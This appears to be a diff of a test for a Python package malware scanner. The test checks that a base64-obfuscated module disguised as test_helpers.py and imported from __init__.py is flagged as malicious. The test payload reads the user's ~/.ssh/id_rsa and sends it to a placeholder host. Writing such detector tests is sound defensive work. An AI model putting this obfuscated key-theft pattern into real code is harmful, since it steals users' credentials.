@@ -205,26 +205,18 @@ def test_scorer_lifts_the_runtime_cap_only_for_a_flow_proven_in_one_function() -
 def test_a_payload_module_named_like_a_test_but_imported_by_the_package_is_judged_as_package_code():
     """Test modules count as data; naming a payload module ``test_helpers.py`` and importing
     it from ``__init__.py`` must not make it so. Not imported, the same file stays test data."""
-    import base64
-
-    from scanner.pipeline import scan
-    from scanner.testing import wheel_bytes, wheel_filename
-
     payload = ("import os, urllib.request\nurllib.request.urlopen('https://c.invalid/x', "
                "data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n")
     module = ("import base64\nexec(base64.b64decode('"
               + base64.b64encode(payload.encode()).decode() + "'))\n")
-    disguised = scan(wheel_bytes("pkg", "1.0", {"pkg/__init__.py": "from . import test_helpers\n",
-                                                "pkg/test_helpers.py": module}),
-                     filename=wheel_filename("pkg", "1.0"))
-    assert disguised.verdict.level.value == "malicious"
+    disguised = _wheel({"demo/__init__.py": "from . import test_helpers\n",
+                        "demo/test_helpers.py": module})
+    assert disguised.verdict.level is VerdictLevel.MALICIOUS
     marks = [f for f in disguised.findings if f.rule == "python.import.test-module"]
-    assert marks and marks[0].path == "pkg/test_helpers.py"
-    assert "pkg/__init__.py line 1" in marks[0].evidence
-    assert any(f.context.value == "import" and f.path == "pkg/test_helpers.py"
+    assert marks and marks[0].path == "demo/test_helpers.py"
+    assert "demo/__init__.py line 1" in marks[0].evidence
+    assert any(f.context is Context.IMPORT and f.path == "demo/test_helpers.py"
                for f in disguised.verdict.reasons)
-    honest = scan(wheel_bytes("pkg", "1.0", {"pkg/__init__.py": "VALUE = 1\n",
-                                             "pkg/tests/test_helpers.py": module}),
-                  filename=wheel_filename("pkg", "1.0"))
-    assert honest.verdict.level.value != "malicious"
-    assert not [f for f in honest.findings if f.rule == "python.import.test-module"]
+    honest = _wheel({"demo/__init__.py": "VALUE = 1\n", "demo/tests/test_helpers.py": module})
+    assert honest.verdict.level is not VerdictLevel.MALICIOUS
+    assert "python.import.test-module" not in _rules(honest)
